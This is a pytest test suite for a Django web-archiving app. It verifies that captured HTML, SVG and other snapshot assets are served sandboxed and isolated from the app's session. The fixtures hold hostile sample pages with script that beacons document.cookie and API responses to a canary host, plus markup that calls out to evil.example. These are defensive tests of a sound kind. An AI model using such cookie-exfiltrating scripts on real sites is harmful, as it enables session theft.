"""Serving captured assets: owner check, sandboxed HTML, downloads, the separate snapshot origin."""
from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from playwright.sync_api import sync_playwright

from snapshots.capture_jobs.engine_config import chromium_path
from snapshots.links.shown import latest_snapshot, snapshot_asset_urls
from snapshots.models import Link, Snapshot
from snapshots.replay import signing
from snapshots.replay.html import neutralised
from tests.support.capture_jobs_site import Site
from tests.support.capture_site import TEST_CHROMIUM_ARGS
from tests.support.pageserver import page, png_bytes

S = Snapshot.Status
PNG = png_bytes(40, 30)
SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>parent.alert(1)</script></svg>'


def hostile_html(canary_url: str) -> str:
    """A captured page that tries to read the app's cookies and call its API, reporting to a canary."""
    return f"""<!doctype html><html><head><title>Hostile</title></head><body><h1>Hostile page</h1>
<script>
document.body.dataset.ran = "yes";
const report = (what) => {{ new Image().src = "{canary_url}/" + what; }};
report("script-ran");
try {{ report("cookie?c=" + encodeURIComponent(document.cookie)); }} catch (e) {{ report("cookie-error"); }}
fetch("/api/links/", {{credentials: "include"}})
  .then(r => r.text()).then(t => report("api?len=" + t.length)).catch(() => report("api-error"));
</script></body></html>"""


def store(snapshot: Snapshot, assets: dict[str, bytes]) -> Snapshot:
    for name, data in assets.items():
        getattr(snapshot, name).save(f"{name}.{ 'svg' if name == 'favicon' else name}", ContentFile(data), save=False)
    snapshot.save()
    return snapshot


@pytest.fixture
def captured(alice) -> Snapshot:
    link = Link.objects.create(user=alice, url="https://example.org/article")
    snapshot = Snapshot.objects.create(link=link, status=S.DONE, text="Readable text of the page.")
    store(snapshot, {"html": hostile_html("http://127.0.0.1:9").encode(), "mhtml": b"MIME-Version: 1.0\r\n",
                     "pdf": b"%PDF-1.4\n%%EOF\n", "favicon": SVG_WITH_SCRIPT})
    snapshot.screenshot.save("screenshot.png", ContentFile(PNG))
    return snapshot


def asset_url(snapshot: Snapshot, asset: str) -> str:
    return reverse("snapshot-asset", kwargs={"pk": snapshot.pk, "asset": asset})


def assert_locked_down(response) -> None:
    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
    assert policy[0] == "sandbox"  # no allow-scripts, no allow-same-origin
    assert "default-src 'none'" in policy and "base-uri 'none'" in policy
    assert "img-src data:" in policy  # nothing from the page's site or anyone else's
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_owner_gets_the_screenshot_as_an_image(alice_client, captured):
    response = alice_client.get(asset_url(captured, "screenshot"))
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    assert b"".join(response.streaming_content) == PNG
    assert_locked_down(response)


@pytest.mark.django_db
def test_captured_html_is_sandboxed_and_not_sniffed(alice_client, captured):
    response = alice_client.get(asset_url(captured, "html"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
    assert_locked_down(response)
    assert "attachment" not in response.get("Content-Disposition", "")
    assert response["Referrer-Policy"] == "no-referrer"


@pytest.mark.django_db
def test_svg_favicon_is_served_sandboxed(alice_client, captured):
    response = alice_client.get(asset_url(captured, "favicon"))
    assert response["Content-Type"] == "image/svg+xml"
    assert_locked_down(response)


@pytest.mark.django_db
@pytest.mark.parametrize("asset", ["mhtml", "pdf"])
def test_archives_are_downloads(alice_client, captured, asset):
    response = alice_client.get(asset_url(captured, asset))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert f'filename="linkshot-{captured.link_id}-{captured.pk}.{asset}"' in response["Content-Disposition"]
    assert_locked_down(response)


@pytest.mark.django_db
def test_text_is_plain_text(alice_client, captured):
    response = alice_client.get(asset_url(captured, "text"))
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response.content == b"Readable text of the page."


@pytest.mark.django_db
@pytest.mark.parametrize("asset", ["screenshot", "html", "mhtml", "pdf", "text"])
def test_other_peoples_snapshots_are_404(client, bob, captured, asset):
    client.force_login(bob)
    assert client.get(asset_url(captured, asset)).status_code == 404


@pytest.mark.django_db
def test_anonymous_visitors_are_sent_to_log_in(client, captured):
    response = client.get(asset_url(captured, "screenshot"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


@pytest.mark.django_db
def test_unknown_or_missing_assets_are_404(alice_client, captured):
    assert alice_client.get(asset_url(captured, "passwords")).status_code == 404
    assert alice_client.get(asset_url(captured, "thumbnail")).status_code == 404  # not kept
    captured.model_view.save("model_view.png", ContentFile(PNG))
    assert alice_client.get(asset_url(captured, "model_view")).status_code == 404  # kept for the models only
    assert alice_client.get(reverse("snapshot-asset", kwargs={"pk": 999999, "asset": "html"})).status_code == 404


@pytest.fixture
def snapshot_origin(settings):
    settings.LINKSHOT_SNAPSHOT_ORIGIN = "https://snapshots.example"
    settings.ALLOWED_HOSTS = ["testserver", "snapshots.example"]
    return "snapshots.example"


@pytest.mark.django_db
def test_html_moves_to_the_snapshot_origin_with_a_short_lived_token(alice_client, captured, snapshot_origin):
    redirect = alice_client.get(asset_url(captured, "html"))
    assert redirect.status_code == 302
    target = urlsplit(redirect["Location"])
    assert (target.scheme, target.netloc) == ("https", snapshot_origin)

    # The app's session cookie is not sent there: the token alone authorises this one asset.
    response = Client().get(target.path, HTTP_HOST=snapshot_origin, secure=True)
    assert response.status_code == 200
    assert_locked_down(response)
    assert b"Hostile page" in response.content
    # Images stay on the app origin.
    assert alice_client.get(asset_url(captured, "screenshot")).status_code == 200


@pytest.mark.django_db
def test_snapshot_origin_tokens_are_checked(alice_client, captured, snapshot_origin, monkeypatch):
    path = urlsplit(alice_client.get(asset_url(captured, "html"))["Location"]).path
    anonymous = Client()
    assert anonymous.get(path, HTTP_HOST="testserver").status_code == 404  # never on the app origin
    tampered = path.rstrip("/")[:-2] + "xx/"
    assert anonymous.get(tampered, HTTP_HOST=snapshot_origin, secure=True).status_code == 404
    monkeypatch.setattr(signing, "TOKEN_MAX_AGE_SECONDS", -1)
    assert anonymous.get(path, HTTP_HOST=snapshot_origin, secure=True).status_code == 404  # expired


@pytest.mark.django_db
def test_snapshot_origin_token_dies_with_the_snapshot(alice_client, captured, snapshot_origin):
    path = urlsplit(alice_client.get(asset_url(captured, "html"))["Location"]).path
    captured.link.delete()
    assert Client().get(path, HTTP_HOST=snapshot_origin, secure=True).status_code == 404


@pytest.mark.django_db
def test_asset_urls_name_every_asset_and_only_kept_ones_have_a_url(captured, rf):
    urls = snapshot_asset_urls(captured)
    assert set(urls) == {"screenshot", "thumbnail", "full_page", "html", "mhtml", "pdf", "favicon", "text"}
    assert urls["screenshot"] == asset_url(captured, "screenshot")
    assert urls["thumbnail"] is None and urls["full_page"] is None
    absolute = snapshot_asset_urls(captured, rf.get("/"))
    assert absolute["text"] == "http://testserver" + asset_url(captured, "text")


@pytest.mark.django_db
def test_latest_snapshot_prefers_the_newest_complete_one(alice, django_assert_num_queries):
    link = Link.objects.create(user=alice, url="https://example.org/")
    assert latest_snapshot(link) is None
    first = Snapshot.objects.create(link=link, status=S.FAILED)
    assert latest_snapshot(link) == first
    done = Snapshot.objects.create(link=link, status=S.DONE)
    Snapshot.objects.create(link=link, status=S.FAILED)
    running = Snapshot.objects.create(link=link, status=S.RUNNING)
    assert latest_snapshot(link) == done

    prefetched = Link.objects.prefetch_related("snapshots").get(pk=link.pk)
    with django_assert_num_queries(0):
        assert latest_snapshot(prefetched) == done
    Snapshot.objects.filter(pk=done.pk).delete()
    assert latest_snapshot(link) == running


@pytest.fixture(scope="module")
def site():
    """A loopback canary a hostile captured page tries to send cookies and API answers to."""
    served = Site()
    yield served
    served.close()


def calling_home_html(canary: str) -> str:
    """A captured page whose markup still points at its site: <base>, images, styles, hints, refresh."""
    return f"""<!doctype html><html><head><title>Calls home</title><base href="{canary}/base/">
<link rel="stylesheet" href="{canary}/style.css"><link rel="icon" href="{canary}/icon.ico">
<link rel="preload" as="image" href="{canary}/preload.png"><link rel="prefetch" href="{canary}/prefetch">
<link rel="preconnect" href="{canary}"><link rel="dns-prefetch" href="{canary}">
<meta http-equiv="refresh" content="1;url={canary}/refresh">
<style>@import url("{canary}/import.css"); @font-face {{ font-family: f; src: url("{canary}/font.woff"); }}
body {{ font-family: f; background: url("{canary}/background.png"); }}</style></head>
<body><h1>Calls home</h1><img src="{canary}/img.png"><img src="relative.png" srcset="{canary}/srcset.png 2x">
<picture><source srcset="{canary}/source.png"><img src="{canary}/picture.png"></picture>
<video poster="{canary}/poster.png" src="{canary}/video.mp4"></video><audio src="{canary}/audio.mp3"></audio>
<iframe src="{canary}/frame"></iframe><iframe srcdoc="<img src={canary}/srcdoc.png>"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<input type="image" src="{canary}/input.png"><svg><image href="{canary}/svg.png"/></svg>
<form action="{canary}/form"><button>go</button></form></body></html>"""


def open_in_chromium(url: str, cookie: dict | None = None, linger_ms: int = 700) -> str | None:
    """Load ``url`` in real Chromium and return whether the page's own script marked the body."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), args=TEST_CHROMIUM_ARGS)
        try:
            context = browser.new_context()
            if cookie:
                context.add_cookies([cookie])
            tab = context.new_page()
            tab.goto(url, wait_until="load")
            tab.wait_for_timeout(linger_ms)  # time for the page's fetch and beacons, had they run
            return tab.evaluate("document.body.dataset.ran || null")
        finally:
            browser.close()


@pytest.mark.chromium
@pytest.mark.django_db(transaction=True)
def test_captured_script_cannot_read_cookies_or_call_the_api(live_server, alice_client, alice, site):
    link = Link.objects.create(user=alice, url="https://example.org/hostile")
    snapshot = store(Snapshot.objects.create(link=link, status=S.DONE),
                     {"html": hostile_html(site.canary.url("")).encode()})
    app = live_server.url.replace("localhost", "127.0.0.1")  # the test browser resolves no names
    session = alice_client.cookies["sessionid"].value
    cookie = {"name": "sessionid", "value": session, "url": app}

    # Control: the same page without the sandbox runs its script and reaches the canary.
    site.canary.routes["/control"] = page(hostile_html(site.canary.url("")))
    assert open_in_chromium(site.canary.url("/control")) == "yes"
    assert any(path.startswith("/script-ran") for path in site.canary.requests)
    site.canary.requests.clear()

    ran = open_in_chromium(app + asset_url(snapshot, "html"), cookie)

    assert ran is None  # the sandbox kept the script from running at all
    assert site.canary.requests == []  # no cookie, no API answer left the page


@pytest.mark.chromium
@pytest.mark.django_db(transaction=True)
def test_viewing_captured_html_makes_no_request_to_any_other_origin(live_server, alice_client, alice, site):
    link = Link.objects.create(user=alice, url="https://example.org/calls-home")
    canary = site.canary.url("").rstrip("/")
    snapshot = store(Snapshot.objects.create(link=link, status=S.DONE), {"html": calling_home_html(canary).encode()})
    app = live_server.url.replace("localhost", "127.0.0.1")
    cookie = {"name": "sessionid", "value": alice_client.cookies["sessionid"].value, "url": app}

    # Control: the same markup served without the policy calls the canary.
    site.canary.routes["/control"] = page(calling_home_html(canary))
    open_in_chromium(site.canary.url("/control"), linger_ms=300)
    assert len(set(site.canary.requests)) > 5
    site.canary.reset()

    open_in_chromium(app + asset_url(snapshot, "html"), cookie, linger_ms=1500)  # past the 1 s refresh

    assert site.canary.requests == [] and site.canary.accepts == 0


def test_replayed_html_loses_base_refresh_and_frame_sources():
    out = neutralised('<html><head><base href="http://evil.example/"><meta http-equiv="Refresh" content="0;url=x">'
                      '<meta charset="utf-8"><title>Café</title></head><body><iframe src="http://evil.example/f">'
                      '</iframe><iframe srcdoc="<b>x</b>"></iframe><object data="http://evil.example/o"></object>'
                      '<p>kept</p></body></html>'.encode())
    assert b"evil.example" not in out and b"srcdoc" not in out and b"Refresh" not in out
    assert "<title>Café</title>".encode() in out and b"<p>kept</p>" in out and out.count(b"<iframe") == 2
